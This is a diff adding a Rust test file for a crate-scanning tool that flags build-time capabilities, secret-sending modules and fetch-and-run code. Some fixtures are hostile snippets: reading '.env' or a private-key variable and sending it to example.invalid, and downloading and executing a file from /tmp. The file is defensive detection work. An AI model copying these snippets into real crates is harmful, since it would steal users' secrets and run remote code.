@@ -1,0 +1,171 @@
+//! Whole crates, made of text.
+
+use super::*;
+use crate::domain::Measured;
+use crate::formats::rust_source::{Capability, StepKind, Verification};
+
+fn record(files: &[(&str, &str)]) -> BuildRecord {
+    let mut keeper = SourceKeeper::new();
+    for (path, text) in files {
+        keeper.file(path, text.as_bytes());
+    }
+    keeper.finish(capability_table())
+}
+
+const PLAIN: &str = "[package]\nname = 'a'\nversion = '1.0.0'\n";
+
+#[test]
+fn a_crate_without_build_code_has_no_capabilities() {
+    let record = record(&[
+        ("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"),
+        ("src/lib.rs", "pub fn f() { std::process::Command::new(\"ls\").status().ok(); }"),
+        ("build.rs", "fn main() { std::net::UdpSocket::bind(\"x\").ok(); }"),
+    ]);
+    assert_eq!(record.build.runs_at_build, Measured::Known(false));
+    assert_eq!(record.build.capability_names, []);
+    assert_eq!(record.build.inputs_sha256, "");
+}
+
+#[test]
+fn a_missing_manifest_is_unknown_and_not_idle() {
+    let record = record(&[("build.rs", "fn main() {}")]);
+    assert!(record.build.runs_at_build.known().is_none());
+}
+
+#[test]
+fn a_change_of_any_build_input_changes_its_digest() {
+    let script = ("build.rs", "mod a; fn main() { a::f(); }");
+    let digest = |helper: &str, other: &str| {
+        let files = [("Cargo.toml", PLAIN), script, ("a.rs", helper), ("src/lib.rs", other)];
+        record(&files).build.inputs_sha256
+    };
+    let first = digest("pub fn f() {}", "");
+    assert_eq!(first.len(), 64);
+    assert_eq!(first, digest("pub fn f() {}", "pub fn other() {}"));
+    assert_ne!(first, digest("pub fn f() { }", ""));
+}
+
+#[test]
+fn files_may_come_in_any_order_and_twice() {
+    let files = [
+        ("build.rs", "fn main() { std::env::vars(); }"),
+        ("Cargo.toml", PLAIN),
+        ("build.rs", "fn main() {}"),
+    ];
+    assert_eq!(record(&files).build.capability_names, []);
+    let swapped = [files[2], files[1], files[0]];
+    assert_eq!(record(&swapped).build.capability_names, [Capability::EnvironmentWideRead]);
+}
+
+#[test]
+fn a_procedural_macro_is_read_whole() {
+    let record = record(&[
+        ("Cargo.toml", "[package]\nname='m'\nbuild = false\n[lib]\nproc-macro = true\n"),
+        (
+            "src/lib.rs",
+            "mod deep; #[proc_macro] pub fn m(i: TokenStream) -> TokenStream { deep::f(i) }",
+        ),
+        ("src/deep.rs", "pub fn f(i: T) -> T { std::process::Command::new(\"sh\").status(); i }"),
+    ]);
+    assert_eq!(record.build.proc_macro, Measured::Known(true));
+    assert_eq!(record.build.capability_names, [Capability::Spawn, Capability::Shell]);
+    assert_eq!(record.build.programs, ["sh"]);
+}
+
+#[test]
+fn a_helper_lends_its_capabilities_one_step_and_by_name() {
+    let helper = record(&[
+        ("Cargo.toml", "[package]\nname='helper-x'\nbuild = false\n"),
+        ("src/lib.rs", "pub fn run() { let b = ureq::get(\"https://example.invalid/a\").call(); }"),
+    ]);
+    assert!(helper.library.iter().any(|hit| hit.capability == Capability::Download));
+    let manifest = "[package]\nname='a'\n[build-dependencies]\nhelper-x = '1'\n";
+    let mut caller =
+        record(&[("Cargo.toml", manifest), ("build.rs", "fn main() { let _ = helper_x::run(); }")]);
+    assert_eq!(caller.build.capability_names, []);
+    caller.follow(|name| (name == "helper-x").then_some(&helper));
+    assert!(caller.build.through_names.contains(&Capability::Download));
+    assert!(caller.build.through.iter().all(|hit| hit.through == "helper-x"));
+    let downloads = caller.build.downloads.expect("through the helper");
+    assert_eq!(downloads.verification, Verification::Unknown);
+    // The twin does not call it.
+    let mut twin = record(&[("Cargo.toml", manifest), ("build.rs", "fn main() {}")]);
+    twin.follow(|name| (name == "helper-x").then_some(&helper));
+    assert_eq!(twin.build.through, []);
+}
+
+#[test]
+fn includes_of_ordinary_code_are_reads_but_not_at_build() {
+    let record = record(&[
+        ("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"),
+        (
+            "src/data.rs",
+            "static D: &[u8] = include_bytes!(\"../data/d.bin\");
+          static E: &str = include_str!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/e.txt\"));",
+        ),
+    ]);
+    let reads: Vec<_> = record.build.reads.iter().map(|r| (r.path.as_str(), r.at_build)).collect();
+    assert_eq!(reads, [("data/d.bin", false), ("e.txt", false)]);
+}
+
+#[test]
+fn a_module_that_sends_secrets_is_seen_and_its_twins_are_not() {
+    let lib = |text: &str| {
+        record(&[("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"), ("src/time.rs", text)])
+    };
+    // The shape of the crates that posed as time services in March 2026.
+    let thief = lib(
+        "pub fn sync() { let e = std::fs::read_to_string(\".env\").unwrap_or_default();
+         reqwest::blocking::Client::new().post(\"https://example.invalid/t\").body(e).send().ok(); }",
+    );
+    let module = &thief.secrets.modules[0];
+    assert_eq!((module.file.as_str(), module.flows.len()), ("src/time.rs", 1));
+    assert_eq!(module.flows[0].source, StepKind::Secret);
+    // A variable with a telling name.
+    let key =
+        lib("pub async fn check() { let k = std::env::var(\"POLYMARKET_PRIVATE_KEY\").unwrap();
+         reqwest::Client::new().get(format!(\"https://example.invalid/{k}\")).send().await; }");
+    assert_eq!(key.secrets.modules.len(), 1);
+    // Only one of the two.
+    assert_eq!(lib("pub fn f() { std::fs::read(\".env\").ok(); }").secrets.modules, []);
+    let client = lib("pub fn f() { reqwest::blocking::get(\"https://example.invalid\").ok(); }");
+    assert_eq!(client.secrets.modules, []);
+    assert_eq!(client.secrets.files_with_network, 1);
+}
+
+#[test]
+fn a_library_that_fetches_and_starts_is_seen() {
+    let record = record(&[
+        ("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"),
+        ("src/log.rs", "pub fn trace() { let b = ureq::get(\"https://example.invalid/p\").call().unwrap().into_vec();
+          std::fs::write(\"/tmp/p\", b).unwrap(); std::process::Command::new(\"/tmp/p\").spawn().ok(); }"),
+    ]);
+    let flows = &record.secrets.modules[0].flows;
+    assert!(flows.iter().any(|f| f.source == StepKind::Fetch && f.executed), "{flows:?}");
+}
+
+#[test]
+fn code_before_main_is_seen() {
+    let record = record(&[
+        ("Cargo.toml", "[package]\nname = \"a\"\nbuild = false\n"),
+        (
+            "src/lib.rs",
+            "#[used] #[unsafe(link_section = \".init_array\")] static A: extern \"C\" fn() = f; extern \"C\" fn f() {}",
+        ),
+    ]);
+    assert_eq!(record.secrets.pre_main.len(), 1);
+}
+
+#[test]
+fn too_much_code_is_a_limit_that_is_told() {
+    let mut keeper = SourceKeeper::new();
+    keeper.file("Cargo.toml", PLAIN.as_bytes());
+    let big = format!("// {}", "x".repeat(4 << 20));
+    for index in 0..8 {
+        keeper.file(&format!("src/m{index}.rs"), big.as_bytes());
+    }
+    keeper.file("build.rs", b"fn main() {}");
+    let record = keeper.finish(capability_table());
+    assert_eq!(record.build.limits.len(), 1);
+    assert_eq!(record.build.files, ["build.rs"]);
+}
